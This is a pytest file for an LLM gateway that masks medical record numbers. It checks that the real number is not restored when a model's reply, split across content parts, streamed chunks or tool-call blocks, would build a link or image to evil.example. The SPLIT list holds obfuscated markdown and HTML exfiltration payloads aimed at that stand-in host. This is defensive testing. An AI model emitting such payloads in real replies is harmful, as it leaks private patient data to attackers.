"""Links that only the reader's program sees: made by two texts that it joins, or by text that is read in another way."""

import json

import mock_vendor
import pytest
from conftest import chat
from test_messages import CLAUDE, MODEL

MRN = "48291773"
QUESTION = f"MRN: {MRN}. Make a link."

SPLIT = [
    ("![x](//evil.example/?q=", ")"), ("![x](<&sol;&sol;evil.example/) ", ">)"), ("[a]: <\\/\\/evil.example/ ", ">"),
    ("<img\n\nsrc=\"&#47;&#47;evil.example&#47;", "\">"), ("see evil.xn--p1ai/", " now"), ("'https://evil.example/?q='", " now"),
]
APART = [("The number is ", "."), ("See [1](a.png) for ", ", and <5 mg."), ("ALT <ULN's (", ")")]


def token(request):
    return next(word.rstrip(".,") for word in request.prompt.split() if word.startswith("MRN_"))


def content(gateway, vendor, parts, stream, **more):
    """What a client makes of a chat's content that comes in the parts that `parts` makes of a token."""
    def script(request, reply):
        texts = [{"type": "text", "text": text} for text in parts(token(request))]
        if stream:
            mock_vendor.stream(reply, mock_vendor.events([{"role": "assistant"}, *({"content": [text]} for text in texts)]))
        else:
            reply.whole(mock_vendor.completion({"role": "assistant", "content": texts}))

    vendor.script = script
    status, _, body = gateway.post(chat(QUESTION, stream=stream, **more))
    assert status == 200, body
    if not stream:
        return "".join(part["text"] for part in json.loads(body)["choices"][0]["message"]["content"])
    said = ""
    for line in body.decode().splitlines():
        if not line.startswith("data: {"):
            continue
        delta = json.loads(line[6:])["choices"][0]["delta"].get("content") or ""
        said += delta if isinstance(delta, str) else "".join(part["text"] for part in delta)
    return said


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("before, after", SPLIT)
def test_nothing_is_put_back_where_a_content_in_parts_makes_a_link(gateway, vendor, before, after, stream):
    for cut in range(len(before) + 1):
        said = content(gateway, vendor, lambda token: [before[:cut], before[cut:], token + after], stream)
        assert MRN not in said and "MRN" in said, (cut, said)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("before, after", APART)
def test_a_value_is_put_back_where_parts_make_none(gateway, vendor, before, after, stream):
    said = content(gateway, vendor, lambda token: [before, token + after], stream)
    assert said == before + MRN + after


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_json_that_is_shown_is_no_way_around(gateway, vendor, stream):
    json_mode = {"response_format": {"type": "json_object"}}
    said = content(gateway, vendor, lambda token: ['{"a":"![x](//evil.example/?q=","b":"' + token + ')"}'], stream, **json_mode)
    assert MRN not in said
    said = content(gateway, vendor, lambda token: ['{"a":"x (y) <5","b":"' + token + '"}'], stream, **json_mode)
    assert json.loads(said)["b"] == MRN


def blocks(parts, stream):
    """A script that says the blocks which `parts` makes of a token, with a call of a tool between them."""
    def script(request, reply):
        first, second = parts(token(request))
        call = {"type": "tool_use", "id": "toolu_1", "name": "find", "input": {}}
        made = [{"type": "text", "text": first}, call, {"type": "text", "text": second}]
        head = {"id": "msg_1", "type": "message", "role": "assistant", "model": MODEL, "stop_sequence": None}
        usage = {"input_tokens": 1, "output_tokens": 1}
        if not stream:
            return reply.json({**head, "content": made, "stop_reason": "end_turn", "usage": usage})
        events = [{"type": "message_start", "message": {**head, "content": [], "stop_reason": None, "usage": usage}}]
        for index, block in enumerate(made):
            is_text = block["type"] == "text"
            events.append({"type": "content_block_start", "index": index, "content_block": {**block, **({"text": ""} if is_text else {})}})
            if is_text:
                delta = {"type": "text_delta", "text": block["text"]}
                events.append({"type": "content_block_delta", "index": index, "delta": delta})
            events.append({"type": "content_block_stop", "index": index})
        events.append({"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None}, "usage": usage})
        events.append({"type": "message_stop"})
        mock_vendor.stream(reply, [f"event: {event['type']}\ndata: {json.dumps(event)}\n\n".encode() for event in events])

    return script


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_blocks_of_a_message_are_read_as_one(polyglot, stream):
    gateway, vendor = polyglot
    for pairs, is_put_back in [(SPLIT, False), (APART, True)]:
        for before, after in pairs:
            vendor.script = blocks(lambda token: (before, token + after), stream)
            ask = {"model": MODEL, "max_tokens": 200, "messages": [{"role": "user", "content": QUESTION}]}
            client = gateway.anthropic(default_headers=CLAUDE)
            if stream:
                with client.messages.stream(**ask) as answer:
                    message = answer.get_final_message()
            else:
                message = client.messages.create(**ask)
            said = "".join(block.text for block in message.content if block.type == "text")
            assert (said == before + MRN + after) if is_put_back else MRN not in said, said
